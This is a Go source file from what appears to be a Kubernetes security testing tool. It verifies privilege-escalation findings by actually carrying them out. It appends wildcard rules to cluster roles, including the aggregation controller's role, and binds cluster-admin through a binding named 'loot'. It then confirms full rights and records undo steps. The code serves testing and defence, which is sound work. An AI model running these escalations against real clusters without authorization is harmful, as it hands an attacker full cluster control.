package walk

import (
	"context"
	"errors"
	"fmt"
	"strings"

	authorizationv1 "k8s.io/api/authorization/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime/schema"
)

// aggregator is the account of Kubernetes that may add permissions to the role
// that it is bound to itself.
const aggregator = "clusterrole-aggregation-controller"

// followStructure makes a hop that rests on no finding.
func followStructure(ctx context.Context, a attempt) error {
	root, err := a.controlPlaneRoot(ctx, a.hop.From)
	switch {
	case err != nil:
		return err
	case a.hop.From == tokenOf(account{"kube-system", aggregator}):
		return a.addTo(ctx, "system:controller:"+aggregator)
	case root, strings.HasPrefix(a.hop.From, "code in container ") && a.keys:
		return a.forge(ctx)
	}
	return fmt.Errorf("nobody knows how to get from %s to %s", a.hop.From, a.hop.To)
}

// useEverything uses what the account may do anyway.
func useEverything(ctx context.Context, a attempt) error { return a.everything(ctx, a.hop.From) }

// everything is forbidden to a credential that may not do everything.
func (a attempt) everything(ctx context.Context, name string) error {
	access, err := a.credentialOf(name)
	if err != nil {
		return err
	}
	client, err := connect(access)
	if err != nil {
		return err
	}
	review := &authorizationv1.SelfSubjectAccessReview{Spec: authorizationv1.SelfSubjectAccessReviewSpec{
		ResourceAttributes: &authorizationv1.ResourceAttributes{Verb: "*", Group: "*", Resource: "*"},
	}}
	answer, err := client.AuthorizationV1().SelfSubjectAccessReviews().Create(ctx, review, metav1.CreateOptions{})
	if err != nil {
		return fmt.Errorf("ask for rights: %w", err)
	}
	if !answer.Status.Allowed {
		return apierrors.NewForbidden(schema.GroupResource{Group: "*", Resource: "*"}, "", errors.New(name+" may not do everything"))
	}
	return nil
}

// everythingSoon waits for the authorizer to learn of a change.
func (a attempt) everythingSoon(ctx context.Context) error {
	return soon(ctx, a.hop.From+" may do everything", func(ctx context.Context) (bool, error) {
		err := a.everything(ctx, a.hop.From)
		if apierrors.IsForbidden(err) {
			return false, nil
		}
		return err == nil, err
	})
}

// addPermissions adds all permissions to the role that gives the right to.
func addPermissions(ctx context.Context, a attempt) error {
	for _, e := range a.finding.Evidence {
		if role, ok := strings.CutPrefix(e.Role, "ClusterRole/"); ok {
			return a.addTo(ctx, role)
		}
	}
	return errors.New("no evidence names a cluster role")
}

func (a attempt) addTo(ctx context.Context, name string) error {
	client, err := a.client()
	if err != nil {
		return err
	}
	role, err := client.RbacV1().ClusterRoles().Get(ctx, name, metav1.GetOptions{})
	if err != nil {
		return fmt.Errorf("get role: %w", err)
	}
	before := role.DeepCopy()
	role.Rules = append(role.Rules, rbacv1.PolicyRule{Verbs: []string{"*"}, APIGroups: []string{"*"}, Resources: []string{"*"}})
	if _, err := client.RbacV1().ClusterRoles().Update(ctx, role, metav1.UpdateOptions{}); err != nil {
		return fmt.Errorf("update role: %w", err)
	}
	a.undo = append(a.undo, func(ctx context.Context) error {
		before.ResourceVersion = ""
		_, err := a.admin.RbacV1().ClusterRoles().Update(ctx, before, metav1.UpdateOptions{})
		return err
	})
	return a.everythingSoon(ctx)
}

// bindClusterAdmin binds cluster-admin to itself.
func bindClusterAdmin(ctx context.Context, a attempt) error {
	who, err := accountIn(a.hop.From)
	if err != nil {
		return err
	}
	client, err := a.client()
	if err != nil {
		return err
	}
	binding := &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "loot"}, RoleRef: clusterAdmin(), Subjects: who.subjects()}
	if _, err := client.RbacV1().ClusterRoleBindings().Create(ctx, binding, metav1.CreateOptions{}); err != nil {
		return fmt.Errorf("create binding: %w", err)
	}
	a.undo = append(a.undo, func(ctx context.Context) error {
		return a.admin.RbacV1().ClusterRoleBindings().Delete(ctx, "loot", metav1.DeleteOptions{})
	})
	return a.everythingSoon(ctx)
}

func clusterAdmin() rbacv1.RoleRef {
	return rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cluster-admin"}
}

func (a account) subjects() []rbacv1.Subject {
	return []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Namespace: a.namespace, Name: a.name}}
}
